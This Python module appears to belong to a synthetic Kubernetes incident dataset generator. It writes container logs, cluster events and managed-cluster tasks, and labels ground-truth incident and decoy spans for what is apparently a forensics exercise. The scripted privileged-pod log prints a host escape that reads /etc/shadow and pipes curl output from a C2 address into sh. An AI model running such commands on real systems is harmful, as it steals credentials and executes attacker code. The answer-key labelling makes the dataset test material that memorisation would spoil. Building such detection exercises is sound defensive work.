"""Cluster logs besides the API audit log: container logs, events, managed-cluster tasks.

- ``k8s/pods/<ns>_<pod>_<uid>/<container>/0.log`` — CRI container logs, with ``P`` partial lines
  where a line exceeds 16 KiB.
- ``k8s/events.json`` — ``kubectl get events -A -o json`` (a ``List`` of core/v1 Events, keys
  sorted and indented by 4 as kubectl prints them).
- ``k8s/mks-tasks.json`` — the managed-Kubernetes API's ``{"tasks": [...]}`` listing.
"""

from __future__ import annotations

import json
from typing import Any

from gen import cast as C
from gen.core import (
    Out,
    Step,
    Truth,
    hexid,
    iso,
    machine_weight,
    rng_for,
    run_stream,
    times,
    uuid4,
    weighted,
)

PARTIAL = 16384  # containerd splits longer lines into partial (P) records

# --- container logs -------------------------------------------------------------------------

class Containers:
    """Writes CRI logs under ``k8s/pods/``."""

    def __init__(self, root: Any, seed: int, tl: C.Timeline, truth: Truth) -> None:
        self.rng = rng_for(seed, "k8s_container")
        self.root, self.tl, self.truth = root, tl, truth
        rng = self.rng
        pods = [("payments", C.EXEC_POD[1], "api"),
                ("ingress-nginx", "ingress-nginx-controller-5d8f9c7b4-qm2zt", "controller"),
                ("monitoring", "prometheus-k8s-0", "prometheus"),
                ("kube-system", "coredns-6f7b9d8c5d-h4kx9", "coredns")]
        self.outs = [Out(root, f"k8s/pods/{ns}_{pod}_{uuid4(rng)}/{c}/0.log")
                     for ns, pod, c in pods]
        self.pick = weighted(rng, [(0, 30), (1, 40), (2, 10), (3, 20)])
        self.count = 0

    @staticmethod
    def cri(t: float, stream: str, msg: str) -> str:
        """One CRI record; messages over 16 KiB are split into P partials and a closing F."""
        stamp = iso(t, 9)
        if len(msg) <= PARTIAL:
            return f"{stamp} {stream} F {msg}\n"
        parts = [msg[i:i + PARTIAL] for i in range(0, len(msg), PARTIAL)]
        return "".join(f"{stamp} {stream} {'P' if i < len(parts) - 1 else 'F'} {p}\n"
                       for i, p in enumerate(parts))

    def background(self, t: float) -> None:
        rng = self.rng
        i = self.pick()
        self.count += 1
        if i == 0:
            if self.count % 5000 == 50:
                trace = "\\n".join(f"  File \\\"/opt/app/payments/{m}.py\\\", line "
                                   f"{rng.randrange(20, 900)}, in handler_{k}" for k, m in
                                   enumerate(["api", "views", "billing", "db", "retry"] * 120))
                msg = ('{"level":"error","ts":"' + iso(t, 6) + '","logger":"payments.api",'
                       '"msg":"unhandled exception in /api/v1/payments","trace":"Traceback '
                       '(most recent call last):\\n' + trace + '"}')
                self.outs[0].write(self.cri(t, "stderr", msg))
                return
            status = 200 if rng.random() < 0.97 else 500
            msg = ('{"level":"' + ("info" if status == 200 else "error") + '","ts":"' + iso(t, 6)
                   + '","logger":"payments.api","msg":"request completed","method":"'
                   + rng.choice(("GET", "GET", "POST")) + '","path":"/api/v1/payments","status":'
                   + str(status) + ',"duration_ms":' + str(rng.randrange(3, 240)) + "}")
            self.outs[0].write(self.cri(t, "stdout", msg))
        elif i == 1:
            ip = rng.choice((C.OFFICE_IP, "192.0.2.77", "192.0.2.131", "198.51.100.34",
                             "203.0.113.9"))
            path = rng.choice(("/", "/api/v1/payments", "/static/app.js", "/healthz",
                               "/api/v1/invoices?page=2"))
            tm = iso(t, 0).replace("T", ":")
            msg = (f'{ip} - - [{tm}] "GET {path} HTTP/2.0" 200 {rng.randrange(200, 90000)} "-" '
                   f'"{C.UA_CHROME_WIN}" {rng.randrange(300, 900)} 0.{rng.randrange(1, 999):03d} '
                   f"[payments-payments-api-80] [] 10.20.2.{rng.randrange(10, 60)}:8080 "
                   f"{rng.randrange(200, 90000)} 0.{rng.randrange(1, 999):03d} 200 {hexid(rng)}")
            self.outs[1].write(self.cri(t, "stdout", msg))
        elif i == 2:
            msg = (f'ts={iso(t, 3)} caller=compact.go:{rng.randrange(500, 800)} level=info '
                   f'component=tsdb msg="write block" mint={int(t * 1000) - 7200000} '
                   f"maxt={int(t * 1000)} ulid=01J{hexid(rng, 23).upper()} "
                   f"duration={rng.randrange(100, 900)}ms")
            self.outs[2].write(self.cri(t, "stderr", msg))
        else:
            name = rng.choice(("payments-db.payments.svc.cluster.local.",
                               "redis.payments.svc.cluster.local.", "api.nordwind.example."))
            msg = (f'[INFO] 10.20.2.{rng.randrange(10, 60)}:{rng.randrange(30000, 60000)} - '
                   f'{rng.randrange(1, 65535)} "A IN {name} udp 60 false 512" NOERROR qr,aa,rd '
                   f"118 0.000{rng.randrange(100, 999)}s")
            self.outs[3].write(self.cri(t, "stdout", msg))

    def scripted(self) -> list[Step]:
        ens, epod = C.EVIL_POD
        t0 = self.tl.inc(23, 12, 31.2)
        lines = [
            (0.0, "stdout", "+ chroot /host sh -c 'cat /etc/shadow | head -3'"),
            (0.4, "stdout", "root:*:19960:0:99999:7:::"),
            (0.4, "stdout", "daemon:*:19960:0:99999:7:::"),
            (31.0, "stdout", f"+ chroot /host sh -c 'curl -fsSL http://{C.C2_IP}/k | sh'"),
            (33.5, "stderr", f"connected to {C.C2_IP}:4443"),
        ]
        state: dict[str, Out] = {}
        self.evil = state

        def open_evil(t: float) -> None:
            state["out"] = Out(self.root, f"k8s/pods/{ens}_{epod}_{uuid4(self.rng)}/shell/0.log")
        steps: list[Step] = [(t0 - 0.001, open_evil)]
        for dt, stream, msg in lines:
            def emit(t: float, stream: str = stream, msg: str = msg) -> None:
                out = state["out"]
                span = out.write(self.cri(t, stream, msg))
                self.truth.add("incident", "output of the privileged pod", t, out, span,
                               [msg[:30]])
            steps.append((t0 + dt, emit))
        return steps

    def run(self, n: int) -> None:
        run_stream(times(self.rng, self.tl.start, self.tl.days, n, machine_weight),
                   self.background, self.scripted())
        for out in [*self.outs, *self.evil.values()]:
            out.close()


# --- cluster events -------------------------------------------------------------------------

class Events:
    """Writes ``k8s/events.json`` as ``kubectl get events -A -o json`` prints it."""

    def __init__(self, root: Any, seed: int, tl: C.Timeline, truth: Truth) -> None:
        self.rng = rng_for(seed, "k8s_events")
        self.tl, self.truth = tl, truth
        self.out = Out(root, "k8s/events.json")
        self.out.write('{\n    "apiVersion": "v1",\n    "items": [\n', 0)
        self.first = True
        self.rv = 48_100_000 + self.rng.randrange(10000)

    def event(self, t: float, ns: str, kind: str, name: str, reason: str, message: str,
              etype: str = "Normal", component: str = "kubelet", host: str | None = None,
              count: int = 1) -> tuple[int, int]:
        rng = self.rng
        self.rv += 1 + rng.randrange(40)
        ts = iso(t, 0)
        item = {"apiVersion": "v1", "count": count, "eventTime": None, "firstTimestamp": ts,
                "involvedObject": {"apiVersion": "v1", "kind": kind, "name": name,
                                   "namespace": ns, "resourceVersion": str(self.rv - 7),
                                   "uid": uuid4(rng)},
                "kind": "Event", "lastTimestamp": ts, "message": message,
                "metadata": {"creationTimestamp": ts, "name": f"{name}.{hexid(rng, 16)}",
                             "namespace": ns, "resourceVersion": str(self.rv),
                             "uid": uuid4(rng)},
                "reason": reason, "reportingComponent": component if component != "kubelet"
                else "", "reportingInstance": "",
                "source": {"component": component, **({"host": host} if host else {})},
                "type": etype}
        if kind == "Node":
            del item["involvedObject"]["namespace"]
        body = json.dumps(item, indent=4, sort_keys=True)
        text = "        " + body.replace("\n", "\n        ")
        sep = "" if self.first else ",\n"
        self.first = False
        self.out.write(sep, 0)
        line = self.out.lines + 1
        self.out.write(text)
        return line, self.out.lines + 1

    def background(self, t: float) -> None:
        rng = self.rng
        r = rng.random()
        node = C.NODES[rng.randrange(3)]
        if r < 0.5:
            job = f"invoice-sweeper-{int(t) // 60}-{hexid(rng, 5)}"
            reason, msg = rng.choice((("Pulled", 'Container image "registry.nordwind.example/'
                                       'payments/sweeper:1.8.2" already present on machine'),
                                      ("Created", "Created container sweeper"),
                                      ("Started", "Started container sweeper")))
            self.event(t, "payments", "Pod", job, reason, msg, host=node)
        elif r < 0.75:
            self.event(t, "payments", "Pod", C.EXEC_POD[1], "Unhealthy", "Readiness probe "
                       "failed: Get \"http://10.20.2.41:8080/healthz\": context deadline "
                       "exceeded", "Warning", host=node, count=rng.randrange(1, 5))
        elif r < 0.9:
            self.event(t, "payments", "Job", f"invoice-sweeper-{int(t) // 60}",
                       "SuccessfulCreate", f"Created pod: invoice-sweeper-{int(t) // 60}-"
                       f"{hexid(rng, 5)}", component="job-controller")
        else:
            self.event(t, "monitoring", "Pod", "prometheus-k8s-0", "BackOff", "Back-off "
                       "restarting failed container config-reloader in pod prometheus-k8s-0_"
                       "monitoring", "Warning", host=node)

    def scripted(self) -> list[Step]:
        ens, epod = C.EVIL_POD
        t0 = self.tl.inc(23, 12, 20.4)
        plan = [
            (0.0, "Scheduled", f"Successfully assigned {ens}/{epod} to {C.NODES[1]}",
             "default-scheduler"),
            (0.9, "Pulling", 'Pulling image "alpine:3.20"', "kubelet"),
            (8.6, "Pulled", 'Successfully pulled image "alpine:3.20" in 7.654s (7.654s including'
             " waiting). Image size: 3626766 bytes.", "kubelet"),
            (8.9, "Created", "Created container shell", "kubelet"),
            (9.7, "Started", "Started container shell", "kubelet"),
        ]
        steps: list[Step] = []
        for dt, reason, msg, comp in plan:
            def emit(t: float, reason: str = reason, msg: str = msg, comp: str = comp) -> None:
                span = self.event(t, ens, "Pod", epod, reason, msg, component=comp,
                                  host=C.NODES[1] if comp == "kubelet" else None)
                self.truth.add("incident", f"privileged pod: {reason}", t, self.out, span,
                               [epod])
            steps.append((t0 + dt, emit))
        m = self.tl.maintenance_day + 18 * C.HOUR
        for i, node in enumerate(C.NODES):
            def maint(t: float, node: str = node) -> None:
                span = self.event(t, "default", "Node", node, "NodeNotSchedulable",
                                  f"Node {node} status is now: NodeNotSchedulable",
                                  host=node)
                self.truth.add("decoy_maintenance", "planned node drain", t, self.out, span,
                               [node])
            steps.append((m + 600.5 + i * 600, maint))
        return steps

    def run(self, n: int) -> None:
        run_stream(times(self.rng, self.tl.start, self.tl.days, n, machine_weight),
                   self.background, self.scripted())
        self.out.write('\n    ],\n    "kind": "List",\n    "metadata": {\n'
                       '        "resourceVersion": ""\n    }\n}\n', 0)
        self.out.close()


# --- managed-Kubernetes tasks ---------------------------------------------------------------

def write_tasks(root: Any, seed: int, tl: C.Timeline, truth: Truth) -> Out:
    """``k8s/mks-tasks.json``: the cluster's task list, one task per line, oldest first."""
    rng = rng_for(seed, "mks_cluster")
    out = Out(root, "k8s/mks-tasks.json")
    out.write('{"tasks":[\n', 0)
    rows: list[tuple[float, float, str, str | None, str, str | None]] = []
    for d in range(tl.days):
        t = tl.start + d * C.DAY + 9 * C.HOUR + rng.random() * 6 * C.HOUR
        rows.append((t, t + 180 + rng.random() * 200, "NODE_GROUP_RESIZE", C.NODEGROUP_ID,
                     "DONE", None))
    rows.append((tl.start + 3 * C.DAY + 4 * C.HOUR, tl.start + 3 * C.DAY + 4.2 * C.HOUR,
                 "ROTATE_CERTS", None, "DONE", None))
    m = tl.maintenance_day + 18 * C.HOUR + 10 * 60 + 2.0
    rows.append((m, m + 1900.0, "UPGRADE_PATCH_VERSION", None, "DONE", "decoy_maintenance"))
    ti = tl.inc(23, 15, 10.4)
    rows.append((ti, ti + 251.0, "NODE_GROUP_RESIZE", C.NODEGROUP_ID, "DONE", "incident"))
    rows.append((tl.start + 6 * C.DAY + 11 * C.HOUR, tl.start + 6 * C.DAY + 11.1 * C.HOUR,
                 "UPDATE_NODEGROUP_LABELS", C.NODEGROUP_ID, "ERROR", None))
    rows.sort()
    for i, (start, end, typ, ng, status, label) in enumerate(rows):
        task = {"id": uuid4(rng), "cluster_id": C.CLUSTER_ID}
        if ng:
            task["nodegroup_id"] = ng
        task.update({"started_at": iso(start, 0), "updated_at": iso(end, 0), "status": status,
                     "type": typ})
        sep = ",\n" if i < len(rows) - 1 else "\n"
        span = out.write(json.dumps(task, separators=(",", ":")) + sep)
        if label:
            truth.add(label, f"cluster task {typ}", start, out, span, [typ])
    out.write("]}\n", 0)
    out.close()
    return out
